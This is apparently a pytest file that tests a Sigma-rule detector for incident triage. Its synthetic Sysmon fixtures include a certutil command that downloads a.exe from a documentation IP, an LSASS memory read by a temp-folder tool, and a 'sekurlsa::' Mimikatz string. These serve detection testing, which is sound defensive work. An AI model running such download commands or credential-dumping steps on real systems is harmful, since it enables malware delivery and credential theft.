"""SigmaDetector end to end: Detection contents, caps, ordering and the Detector protocol."""

from pathlib import Path

from triage.detect import Detector, SigmaDetector
from triage.models import Incident, Record

FIXTURES = Path(__file__).parent / "fixtures" / "sigmahq_style"
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def sysmon(number: int, event_id: int, **fields: str) -> Record:
    return Record(
        artifact_id="A2",
        locator=f"record:{number}",
        source=SYSMON,
        raw=f"<Event>{fields}</Event>",
        fields={"Channel": SYSMON, "EventID": event_id, **fields},
    )


def incident(*records: Record) -> Incident:
    return Incident(id="I1", input_digest="0" * 64, artifacts=(), records=records)


LSASS_READ = sysmon(
    7,
    10,
    SourceImage="C:\\Users\\eve\\AppData\\Local\\Temp\\tool.exe",
    TargetImage="C:\\Windows\\system32\\lsass.exe",
    GrantedAccess="0x1010",
)
CERTUTIL = sysmon(
    8,
    1,
    Image="C:\\Windows\\System32\\certutil.exe",
    CommandLine="certutil -urlcache -split -f http://198.51.100.3/a.exe C:\\Users\\Public\\a.exe",
    ParentImage="C:\\Windows\\System32\\cmd.exe",
)


def test_detector_satisfies_the_protocol_and_reports_a_full_detection() -> None:
    detector: Detector = SigmaDetector.from_rule_dirs()
    [found] = [d for d in detector.detect(incident(LSASS_READ)) if "T1003.001" in d.techniques][:1]
    assert found.level == "high"
    assert found.rule_source == "builtin"
    assert [(r.artifact_id, r.locator) for r in found.records] == [("A2", "record:7")]
    assert found.matched_fields["TargetImage"] == "C:\\Windows\\system32\\lsass.exe"
    assert found.matched_fields["GrantedAccess"] == "0x1010"
    assert found.falsepositives and found.description


def test_filters_suppress_known_good_sources() -> None:
    benign = sysmon(
        9,
        10,
        SourceImage="C:\\Windows\\system32\\wininit.exe",
        TargetImage="C:\\Windows\\system32\\lsass.exe",
        GrantedAccess="0x1fffff",
    )
    detections = SigmaDetector.from_rule_dirs().detect(incident(benign))
    assert not [d for d in detections if "T1003.001" in d.techniques]


def test_user_rules_report_their_file_and_run_beside_builtin_ones() -> None:
    detector = SigmaDetector.from_rule_dirs([FIXTURES])
    sources = {d.rule_source for d in detector.detect(incident(CERTUTIL))}
    assert "builtin" in sources
    assert str(FIXTURES / "proc_creation_win_certutil_remote_fetch.yml") in sources


def test_output_is_ordered_by_level_then_rule_id_and_is_stable() -> None:
    detector = SigmaDetector.from_rule_dirs()
    first = detector.detect(incident(CERTUTIL, LSASS_READ))
    ranks = ["informational", "low", "medium", "high", "critical"]
    keys = [(-ranks.index(d.level), d.rule_id) for d in first]
    assert keys == sorted(keys)
    assert detector.detect(incident(LSASS_READ, CERTUTIL)) == first


def test_records_per_detection_are_capped() -> None:
    many = [
        sysmon(
            n,
            10,
            SourceImage="C:\\x\\t.exe",
            TargetImage="C:\\Windows\\system32\\lsass.exe",
            GrantedAccess="0x1010",
        )
        for n in range(30)
    ]
    detector = SigmaDetector.from_rule_dirs(max_records_per_detection=5)
    [found] = [d for d in detector.detect(incident(*many)) if "GrantedAccess" in d.matched_fields]
    assert len(found.records) == 5
    assert "30 matching records" in found.description


def test_long_matched_values_are_capped() -> None:
    command = "certutil -urlcache -f http://198.51.100.3/" + "A" * 5000
    huge = sysmon(1, 1, Image="C:\\x\\certutil.exe", CommandLine=command)
    detections = SigmaDetector.from_rule_dirs().detect(incident(huge))
    values = [v for d in detections for v in d.matched_fields.values()]
    assert values and max(len(v) for v in values) <= 300


def test_records_outside_any_logsource_are_not_examined() -> None:
    text = Record(artifact_id="A1", locator="line:1", source="email.body", raw="sekurlsa::")
    assert SigmaDetector.from_rule_dirs().detect(incident(text)) == ()
